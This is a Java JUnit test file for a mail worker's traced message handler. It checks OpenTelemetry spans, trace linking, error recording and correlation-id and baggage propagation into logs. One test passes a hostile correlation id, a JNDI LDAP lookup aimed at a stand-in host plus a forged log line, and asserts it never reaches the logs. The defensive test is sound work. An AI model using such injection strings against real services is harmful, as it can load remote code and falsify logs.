package dev.slo.sample.worker.adapter.telemetry;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.slo.sample.telemetry.Correlation;
import dev.slo.sample.telemetry.CorrelationId;
import dev.slo.sample.telemetry.Environment;
import dev.slo.sample.telemetry.Telemetry;
import dev.slo.sample.worker.domain.mail.Answer;
import dev.slo.sample.worker.domain.mail.Attempts;
import dev.slo.sample.worker.domain.mail.MailEvents;
import dev.slo.sample.worker.domain.mail.MailProvider;
import dev.slo.sample.worker.domain.mail.MailSender;
import dev.slo.sample.worker.domain.mail.MailTask;
import dev.slo.sample.worker.domain.mail.SimulatedWork;
import dev.slo.sample.worker.domain.mail.TaskId;
import dev.slo.sample.worker.domain.task.Delivery;
import dev.slo.sample.worker.domain.task.DeliveryHandler;
import dev.slo.sample.worker.domain.task.Verdict;
import io.opentelemetry.api.baggage.Baggage;
import io.opentelemetry.api.trace.SpanKind;
import io.opentelemetry.api.trace.StatusCode;
import io.opentelemetry.api.trace.Tracer;
import io.opentelemetry.sdk.testing.exporter.InMemorySpanExporter;
import io.opentelemetry.sdk.trace.SdkTracerProvider;
import io.opentelemetry.sdk.trace.data.SpanData;
import io.opentelemetry.sdk.trace.export.SimpleSpanProcessor;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;
import org.slf4j.MDC;

/** The spans of a delivery and its mail, and the correlation id that its log lines carry. */
class TracedHandlerTest {

    private static final String TRACE = "0af7651916cd43dd8448eb211c80319c";
    private static final String SENDER = "b7ad6b7169203331";
    private static final String TRACEPARENT = "00-" + TRACE + "-" + SENDER + "-01";

    private final InMemorySpanExporter exported = InMemorySpanExporter.create();
    private final SdkTracerProvider tracers = SdkTracerProvider.builder()
            .addSpanProcessor(SimpleSpanProcessor.create(exported))
            .build();
    private final Tracer tracer = tracers.get("test");
    private final Telemetry telemetry = Telemetry.start("sampleworker", Environment.of(Map.of()));
    private final ListAppender<ILoggingEvent> lines = new ListAppender<>();
    private final Logger log = (Logger) LoggerFactory.getLogger("dev.slo.sample.worker");
    private final List<String> seen = new ArrayList<>();

    @BeforeEach
    void listen() {
        lines.start();
        log.addAppender(lines);
    }

    @AfterEach
    void stop() {
        log.detachAppender(lines);
        tracers.close();
        telemetry.close();
    }

    private Verdict handle(Map<String, String> attributes, MailProvider provider) throws Exception {
        MailSender sender = new MailSender(
                provider, new Attempts(2, Duration.ZERO), new SimulatedWork(0, 1), new OtelSpans(tracer), new Silent());
        DeliveryHandler inner = delivery -> {
            seen.add(Correlation.current().toString());
            seen.add(String.valueOf(MDC.get(Correlation.KEY)));
            seen.add(String.valueOf(Baggage.current().getEntryValue("tenant")));
            sender.send(new MailTask(TaskId.fresh(), "ann@example.com", "Hello"), true);
            return new Verdict.Delete();
        };
        return new TracedHandler(inner, tracer, telemetry.propagation(), "tasks")
                .handle(new Delivery("m-1", "r-1", "{}", attributes, 2, Instant.EPOCH));
    }

    private SpanData span(String name) {
        return exported.getFinishedSpanItems().stream()
                .filter(span -> span.getName().equals(name))
                .findFirst()
                .orElseThrow(() -> new AssertionError("no span " + name));
    }

    @Test
    void theConsumerSpanIsInTheSendersTraceAndLinkedToItsSpan() throws Exception {
        handle(Map.of("traceparent", TRACEPARENT), mail -> new Answer.Accepted(false));
        SpanData consumer = span("process tasks");
        assertThat(consumer.getKind()).isEqualTo(SpanKind.CONSUMER);
        assertThat(consumer.getTraceId()).isEqualTo(TRACE);
        assertThat(consumer.getParentSpanId()).isEqualTo(SENDER);
        assertThat(consumer.getLinks()).singleElement().satisfies(link -> {
            assertThat(link.getSpanContext().getTraceId()).isEqualTo(TRACE);
            assertThat(link.getSpanContext().getSpanId()).isEqualTo(SENDER);
        });
        assertThat(consumer.getAttributes().asMap().toString())
                .contains("messaging.system=aws_sqs")
                .contains("messaging.message.receive_count=2")
                .contains("messaging.verdict=delete");
    }

    @Test
    void aMailHasFourStepsInOrder() throws Exception {
        handle(Map.of(), mail -> new Answer.Accepted(false));
        SpanData mail = span("send_mail");
        assertThat(mail.getParentSpanId()).isEqualTo(span("process tasks").getSpanId());
        assertThat(exported.getFinishedSpanItems())
                .filteredOn(span -> span.getParentSpanId().equals(mail.getSpanId()))
                .extracting(SpanData::getName)
                .containsExactly(
                        "validate_email_request", "fetch_email_data", "prepare_email_content", "send_email_smtp");
        assertThat(mail.getStatus().getStatusCode()).isEqualTo(StatusCode.UNSET);
    }

    @Test
    void aRefusalIsAnErrorOfItsStepAndOfTheMailWithEachAttemptNoted() throws Exception {
        handle(Map.of(), mail -> new Answer.Refused("SMTP server unavailable"));
        for (String name : List.of("send_email_smtp", "send_mail")) {
            assertThat(span(name).getStatus().getStatusCode()).as(name).isEqualTo(StatusCode.ERROR);
            assertThat(span(name).getStatus().getDescription()).isEqualTo("SMTP server unavailable");
        }
        assertThat(span("send_email_smtp").getEvents()).hasSize(2).allSatisfy(event -> assertThat(event.getName())
                .isEqualTo("refused"));
        assertThat(span("validate_email_request").getStatus().getStatusCode()).isEqualTo(StatusCode.UNSET);
    }

    @Test
    void whatBreaksIsRecordedAndThrownOn() {
        assertThat(org.assertj.core.api.Assertions.catchThrowable(() -> handle(Map.of(), mail -> {
                    throw new IllegalStateException("broken");
                })))
                .isInstanceOf(IllegalStateException.class);
        for (String name : List.of("send_email_smtp", "send_mail", "process tasks")) {
            assertThat(span(name).getEvents()).as(name).anySatisfy(event -> assertThat(event.getName())
                    .isEqualTo("exception"));
        }
    }

    @Test
    void theMessagesCorrelationIdAndBaggageHoldWhileItIsHandled() throws Exception {
        String id = CorrelationId.fresh().toString();
        handle(
                Map.of("traceparent", TRACEPARENT, "baggage", "tenant=acme", "CorrelationId", id),
                mail -> new Answer.Accepted(false));
        assertThat(seen).containsExactly(id, id, "acme");
        assertThat(MDC.get(Correlation.KEY)).as("afterwards").isNull();
        assertThat(lines.list).extracting(ILoggingEvent::getMessage).noneMatch(text -> text.contains("fresh"));
    }

    @Test
    void aMessageWithoutAnIdGetsAFreshOneAndALineSaysSo() throws Exception {
        handle(Map.of(), mail -> new Answer.Accepted(false));
        assertThat(CorrelationId.parse(seen.get(0))).isPresent();
        assertThat(seen.get(1)).isEqualTo(seen.get(0));
        assertThat(lines.list)
                .filteredOn(line -> line.getMessage().contains("given a fresh one"))
                .singleElement()
                .satisfies(line -> {
                    assertThat(line.getMDCPropertyMap()).containsEntry(Correlation.KEY, seen.get(0));
                    assertThat(line.getKeyValuePairs().toString()).contains("none");
                });
    }

    @Test
    void whatAStrangerWroteInPlaceOfTheIdReachesNoLine() throws Exception {
        String hostile = "${jndi:ldap://evil}\n{\"level\":\"info\"}";
        handle(Map.of("CorrelationId", hostile, "traceparent", "00-zz-1-01"), mail -> new Answer.Accepted(false));
        assertThat(CorrelationId.parse(seen.get(0))).isPresent();
        assertThat(lines.list).isNotEmpty().allSatisfy(line -> assertThat(
                        line.getFormattedMessage() + line.getMDCPropertyMap() + line.getKeyValuePairs())
                .doesNotContain("jndi"));
        assertThat(span("process tasks").getLinks()).isEmpty();
    }

    /** Nobody listens. */
    private static final class Silent implements MailEvents {
        @Override
        public void attempted(boolean accepted) {}

        @Override
        public void sent(Duration took) {}

        @Override
        public void failed(Duration took) {}
    }
}
